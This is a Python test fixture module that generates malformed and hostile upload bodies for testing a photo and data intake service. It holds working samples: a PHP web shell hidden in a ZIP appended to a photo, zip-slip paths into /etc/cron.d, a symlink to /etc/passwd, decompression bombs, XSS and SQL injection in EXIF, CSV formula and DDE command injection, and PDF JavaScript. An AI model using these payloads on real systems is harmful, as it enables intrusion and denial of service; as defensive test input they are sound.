"""Bodies that a hostile sender sends: bombs, polyglots, scripts where a photo should be, ZIPs that lead out."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from PIL import Image

from intaking.photos import encoded, patterned
from secondcount.intake.images import ImageKind

__all__ = ["BODIES", "body"]

SCRIPT = b"<script>alert(1)</script>"


def body(name: str) -> bytes:
    """Return a body by its name."""
    return BODIES[name]()


@cache
def photo() -> bytes:
    """Return a harmless photo."""
    return encoded(patterned())


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (_chunk(b"IHDR", head), *more, _chunk(b"IDAT", pixels), _chunk(b"IEND", b""))
    )


def _bomb() -> bytes:
    """Return a small PNG that says it has 3,600,000,000 pixels."""
    return _png(60_000, 60_000, zlib.compress(bytes(2_000_000)))


def _commented() -> bytes:
    """Return a JPEG with a script in its comment and in its EXIF."""
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # ImageDescription
    exif[0x8298] = "'; DROP TABLE desk_member; --"  # Copyright
    data = encoded(patterned(), exif=exif)
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + data[2:]


def _texts() -> bytes:
    """Return a PNG with a compressed text chunk of 50 MB, and a script."""
    bomb = b"Comment\0\0" + zlib.compress(b"A" * 50_000_000)
    return _png(2, 2, zlib.compress(bytes(14)), _chunk(b"zTXt", bomb), _chunk(b"tEXt", b"Title\0" + SCRIPT))


def _zip(entries: Mapping[str, bytes], change: Callable[[zipfile.ZipInfo], None] = lambda _: None) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            change(info)
            bundle.writestr(info, data)
    return made.getvalue()


def _link(info: zipfile.ZipInfo) -> None:
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _liar() -> bytes:
    """Return a ZIP whose list says that a file of 2,000,000 bytes has 10."""
    data = bytearray(_zip({"1.jpg": bytes(2_000_000)}))
    at = data.index(b"PK\x01\x02") + 24
    data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def _locked() -> bytes:
    """Return a ZIP whose file says that it is encrypted."""
    data = bytearray(_zip({"1.jpg": photo()}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    data[6] |= 1
    return bytes(data)


BODIES: Mapping[str, Callable[[], bytes]] = {
    "photo": photo,
    "empty": bytes,
    "script": lambda: SCRIPT,
    "page": lambda: b"<!doctype html><html><body>" + SCRIPT + b"</body></html>",
    "drawing": lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "animation": lambda: b"GIF89a" + bytes(64),
    "program": lambda: b"MZ" + bytes(200),
    "unix program": lambda: b"\x7fELF" + bytes(200),
    "bitmap": lambda: b"BM" + bytes(200),
    "random": lambda: bytes((37 * at * at + 11 * at) % 251 for at in range(4096)),
    "picture bomb": _bomb,
    "photo cut short": lambda: photo()[: len(photo()) // 2],
    "only a head": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "photo and page": lambda: photo() + b"<html>" + SCRIPT + b"</html>",
    "photo and zip": lambda: photo() + _zip({"evil.php": b"<?php system($_GET[0]); ?>"}),
    "page before a photo": lambda: b"<html>" + SCRIPT + photo(),
    "photo that speaks": _commented,
    "texts": _texts,
    "pretends to be png": lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT * 10,
    "scripted document": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "external document": lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://h/)>>>>endobj\n",
    "tiff loop": lambda: b"II*\0" + struct.pack("<IHI", 8, 0, 8),
    "tiff bomb": lambda: (
        b"II*\0"
        + struct.pack("<IH", 8, 2)
        + struct.pack("<HHII", 256, 4, 1, 2**31)
        + struct.pack("<HHII", 257, 4, 1, 2**31)
        + bytes(4)
    ),
    "heic without a picture": lambda: struct.pack(">I4s4sI4s", 24, b"ftyp", b"heic", 0, b"mif1") + bytes(64),
    "webp without a picture": lambda: b"RIFF" + struct.pack("<I", 40) + b"WEBPVP8L" + bytes(40),
    "too large": lambda: photo() + bytes(45 * 2**20),
    "zip that leads out": lambda: _zip({"../../../../var/slipped.jpg": photo()}),
    "zip with a root": lambda: _zip({"/etc/cron.d/slipped.jpg": photo()}),
    "zip with a drive": lambda: _zip({"C:\\windows\\slipped.jpg": photo()}),
    "zip with a link": lambda: _zip({"1.jpg": b"/etc/passwd"}, _link),
    "zip that lies": _liar,
    "zip that is locked": _locked,
    "zip in a zip": lambda: _zip({"1.zip": _zip({"1.jpg": photo()})}),
    "zip cut short": lambda: _zip({"1.jpg": photo()})[:-30],
    "zip with scripts": lambda: _zip({"<script>alert(1)</script>.jpg": photo()[:40] + SCRIPT}),
    "zip of nothing": lambda: _zip({}),
    "zip bomb": lambda: _zip({"1.jpg": photo()[:20] + bytes(60_000_000)}),
    "page of a workbook": lambda: _zip({"[Content_Types].xml": b"<Types/>"}),
    "table of formulas": lambda: (
        b'station,area,registered\n"=HYPERLINK(""http://h/""&A1)",north,10\n+cmd|\' /C calc\'!A0,north,11\n'
    ),
    "table of scripts": lambda: b"station,area,registered\n<script>alert(1)</script>,north,10\n",
    "table of controls": "station,area,registered\n1\u202e2,north,10\n3\u0000,north,1\n".encode,
    "table of priorities without a head": lambda: b"1,2,3\n4,5,6\n",
    "list of nothing": lambda: b"station,observer\n",
    "half a JSON": lambda: b'{"claim": {"station": "1"',
    "deep JSON": lambda: b'{"claim":' * 100_000,
    "deep list": lambda: b"[" * 200_000,
    "JSON of a number": lambda: b"1" * 10_000,
    "JSON with the same name twice": lambda: b'{"size": 1, "size": 2, "sha256": "", "claim": {}}',
    "JSON list": lambda: b"[1, 2, 3]",
    "JSON with NaN": lambda: b'{"claim": {"station": "1"}, "sha256": "0", "size": NaN}',
    "broken text": lambda: b'{"claim": "\xff\xfe\x00"}',
    "three megabytes": lambda: b"station=" + b"1" * 3 * 2**20,
    "thousand fields": lambda: b"&".join(b"f%d=1" % at for at in range(1_000)),
    "PNG by its first bytes": lambda: encoded(patterned(), ImageKind.PNG),
}
"""Names that say what is wrong, and how each body is made."""
